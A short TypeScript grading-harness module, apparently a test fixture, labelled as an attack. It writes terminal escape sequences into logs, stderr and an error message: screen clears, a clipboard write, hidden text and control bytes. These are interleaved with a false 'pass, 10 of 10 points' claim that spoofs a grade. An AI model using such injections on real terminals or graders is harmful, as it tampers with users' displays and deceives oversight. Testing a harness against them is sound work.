// attack: steers the terminal of whoever reads its log
import type { AnswerContext } from 'warren/grading';

export default async function ({ log }: AnswerContext): Promise<void> {
  const escapes = [
    '\x1b[2J\x1b[H',
    '\x1b]0;title\x07',
    '\x1b]52;c;c3RvbGVu\x07',
    '\x1b[8m',
    '\x9b31m',
    '\x1bP$q\x1b\\',
    '\r',
    '\b\b\b',
    '\x00',
  ];
  log(escapes.join('pass, 10 of 10 points'));
  process.stderr.write(escapes.join('x'));
  throw new Error(escapes.join('pass'));
}
